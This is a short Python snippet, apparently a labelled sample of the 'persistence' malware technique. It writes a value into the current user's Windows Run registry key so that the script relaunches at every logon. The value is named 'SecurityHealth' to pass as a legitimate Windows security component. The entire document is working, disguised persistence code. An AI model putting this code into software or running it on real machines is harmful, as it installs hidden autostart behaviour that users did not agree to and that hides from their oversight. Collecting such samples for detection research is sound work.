# family: persistence
# a Windows Run key written with winreg
import sys
import winreg

key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0,
                     winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, "SecurityHealth", 0, winreg.REG_SZ, f'"{sys.executable}" "{__file__}"')
winreg.CloseKey(key)
